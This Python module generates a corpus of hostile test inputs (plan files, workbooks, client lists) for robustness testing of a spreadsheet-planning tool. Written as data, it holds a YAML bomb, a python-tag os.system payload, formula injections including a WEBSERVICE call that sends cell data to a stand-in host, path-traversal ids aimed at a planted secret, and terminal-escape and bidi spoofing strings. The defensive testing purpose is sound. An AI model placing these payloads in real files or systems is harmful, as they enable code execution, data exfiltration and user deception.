"""A corpus of hostile inputs for every command: plan files, workbooks, client lists.

Generated, never hand-made: ``python -m scripts.hostile_corpus DIR`` writes it to a folder
(to try by hand, or to hold out), and ``tests/test_hostile_corpus.py`` runs every command
on every file. Each class of attack or damage named in issue 10 has at least one case; the
workbooks of ``tests/hostile.py`` (package-level damage) are added to them.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import yaml

from xlplan import load_plan
from xlplan.workbook import render_bytes

ROOT = Path(__file__).resolve().parent.parent
BOUTIQUE = ROOT / "examples" / "boutique.yaml"
SECRET = "SECRET-7f3a9c"  # written in a file outside every input folder: must reach no output
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eevil"


def _plan_data() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(BOUTIQUE.read_text("utf-8"))
    return data


def _laughs(levels: int = 9) -> str:
    lines = ['a: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        refs = ",".join([f"*a{level - 1}"] * 10)
        lines.append(f"b{level}: &a{level} [{refs}]")
    return "\n".join(lines) + f"\nclient: *a{levels - 1}\n"


def _with(change: Callable[[dict[str, Any]], None]) -> str:
    data = copy.deepcopy(_plan_data())
    change(data)
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def _set(path: tuple[Any, ...], value: Any) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        target: Any = data
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
    return change


def plan_files() -> dict[str, bytes]:
    """name (with its extension) -> content."""
    good = BOUTIQUE.read_bytes()
    return {
        "billion_laughs.yaml": _laughs().encode(),
        "recursive_alias.yaml": b"client: &a {name: x, more: *a}\n",
        "recursive_list.yaml": b"a: &a [*a]\n",
        "deep_nesting.yaml": b"client: " + b"[" * 50_000 + b"]" * 50_000 + b"\n",
        "deep_mapping.yaml": b"client:\n" + b"".join(b" " * i + b"k:\n" for i in range(1, 600)),
        "deep_nesting.json": b'{"client": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "huge_integer.json": b'{"plan": {"year": ' + b"9" * 5000 + b"}}",
        "huge_integer.yaml": b"plan: {year: " + b"9" * 5000 + b"}\n",
        "nan.json": json.dumps(_plan_data(), default=str).replace(
            '"margin": 180', '"margin": NaN').encode(),
        "infinity.yaml": _with(_set(("segments", 0, "margin"), float("inf"))).encode(),
        "bom.json": b"\xef\xbb\xbf" + json.dumps(_plan_data(), default=str).encode(),
        "bom.yaml": b"\xef\xbb\xbf" + good,
        "duplicate_keys.json": b'{"client": {"name": "a", "name": "b"}}',
        "duplicate_keys.yaml": b"client: {name: a, name: b}\n",
        "not_utf8.yaml": b"client: {name: \xff\xfe}\n",
        "binary.yaml": bytes(range(256)) * 64,
        "empty.yaml": b"",
        "only_null.json": b"null",
        "top_level_list.yaml": b"- 1\n- 2\n",
        "python_tag.yaml": b"client: !!python/object/apply:os.system ['echo pwned']\n",
        "big_file.yaml": b"# " + b"x" * (40 * 2**20) + b"\n",
        "huge_amounts.yaml": _with(_set(("segments", 0, "margin"), 1e308)).encode(),
        "long_text.yaml": _with(_set(("plan", "vision"), "x" * 40_000)).encode(),
        "escapes_in_name.yaml": _with(_set(("client", "name"), ESCAPES)).encode(),
        "newline_in_name.yaml": _with(_set(("client", "name"), "Acme\nEvil")).encode(),
        "formula_texts.yaml": _with(lambda d: (
            _set(("client", "name"), "=cmd|' /C calc'!A0")(d),
            _set(("plan", "vision"), '=WEBSERVICE("http://x/?"&A1)')(d),
            _set(("priorities", 0, "title"), "+SUM(1,2)")(d))).encode(),
        "bidi_and_zero_width.yaml": _with(_set(("client", "name"), "Acme\u202e\u200bxslx.exe"
                                               )).encode(),
        "date_before_1900.yaml": _with(_set(("plan", "as_of"), "1899-12-30")).encode(),
        "many_items.yaml": _with(lambda d: d.__setitem__("priorities", [
            {**d["priorities"][0], "title": f"P{i}"} for i in range(3000)])).encode(),
        "odd_keys.yaml": b"? [a, b]\n: 1\n1: 2\nnull: 3\n",
        "good.yaml": good,
    }


def _workbook(change: Callable[[openpyxl.Workbook], None]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(render_bytes(load_plan(BOUTIQUE))))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _set_cells(*cells: tuple[int, str, Any]) -> Callable[[openpyxl.Workbook], None]:
    def change(wb: openpyxl.Workbook) -> None:
        for index, ref, value in cells:
            wb.worksheets[index][ref] = value
    return change


def _delete_sheet(index: int) -> Callable[[openpyxl.Workbook], None]:
    def change(wb: openpyxl.Workbook) -> None:
        del wb[wb.sheetnames[index]]
    return change


def _delete_tables(wb: openpyxl.Workbook) -> None:
    for ws in wb.worksheets:
        for name in list(ws.tables):
            del ws.tables[name]


def workbooks() -> dict[str, bytes]:
    """name -> content: workbooks a person (or an attacker) edited; package-level damage is
    in ``tests/hostile.py``."""
    return {
        "good.xlsx": render_bytes(load_plan(BOUTIQUE)),
        "input_formulas.xlsx": _workbook(_set_cells(
            (0, "B5", '=WEBSERVICE("http://x/?d="&B4)'), (0, "H40", '=HYPERLINK("http://x")'),
            (1, "B4", "=cmd|' /C calc'!A0"))),
        "escapes_in_cells.xlsx": _workbook(_set_cells((0, "B4", "\x9b2J\u202eevil"),
                                                      (0, "H41", "\u202e\x85"))),
        "no_action_sheet.xlsx": _workbook(_delete_sheet(5)),
        "no_tables.xlsx": _workbook(_delete_tables),
        "wrong_types.xlsx": _workbook(_set_cells((0, "B6", 10**300), (1, "B4", -1e308),
                                                 (0, "B9", "not a date"))),
        "long_text.xlsx": _workbook(_set_cells((0, "B7", "y" * 32_767))),
        "renamed_sheets.xlsx": _workbook(lambda wb: [setattr(ws, "title", f"S{i}")
                                                     for i, ws in enumerate(wb.worksheets)]),
        "empty.xlsx": b"",
        "text.xlsx": b"name,id\nAcme,1\n",
        "macro.xlsm": render_bytes(load_plan(BOUTIQUE)),
    }


def client_lists(plans: Path) -> dict[str, bytes]:
    """name -> content: client lists for ``batch --plans plans``."""
    def listing(rows: list[dict[str, str]]) -> bytes:
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=["id", "name"], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        return out.getvalue().encode("utf-8")

    outside = plans.parent / "outside"
    return {
        "paths_as_ids.csv": listing([
            {"id": "../outside/secret", "name": "a"}, {"id": str(outside / "secret"), "name": "b"},
            {"id": "..", "name": "c"}, {"id": "~$Acme", "name": "d"}, {"id": "CONIN$", "name": "e"},
            {"id": "NUL", "name": "f"}, {"id": "good", "name": "Good"}]),
        "hostile_plans.csv": listing([{"id": stem, "name": stem} for stem in (
            "billion_laughs", "recursive_alias", "deep_nesting", "big_file", "binary", "good")]),
        "hostile_names.csv": listing([{"id": "", "name": ESCAPES}, {"id": "", "name": "~$Acme"},
                                      {"id": "", "name": "=cmd|' /C calc'!A0"},
                                      {"id": "", "name": "a/../../b"},
                                      {"id": "", "name": "{{client.sector}}"}]),
        "binary.csv": bytes(range(256)) * 16,
        "empty.csv": b"",
        "long_field.csv": b"name\n" + b"x" * (20 * 2**20) + b"\n",
        "text.xlsx": b"not a workbook",
    }


def write_corpus(folder: Path) -> dict[str, list[Path]]:
    """Write every case under ``folder`` (plans/, workbooks/, lists/, and outside/ holding
    the secret no command may read); kind -> files."""
    made: dict[str, list[Path]] = {"plans": [], "workbooks": [], "lists": []}
    for kind, files in (("plans", plan_files()), ("workbooks", workbooks())):
        (folder / kind).mkdir(parents=True, exist_ok=True)
        for name, data in files.items():
            path = folder / kind / name
            path.write_bytes(data)
            made[kind].append(path)
    outside = folder / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.yaml").write_text(f"client: {{name: {SECRET}}}\nplan: {{year: 2027}}\n")
    (folder / "lists").mkdir(exist_ok=True)
    for name, data in client_lists(folder / "plans").items():
        path = folder / "lists" / name
        path.write_bytes(data)
        made["lists"].append(path)
    if hasattr(os, "mkfifo"):
        fifo = folder / "plans" / "fifo.yaml"
        os.mkfifo(fifo)
        made["plans"].append(fifo)
    return made
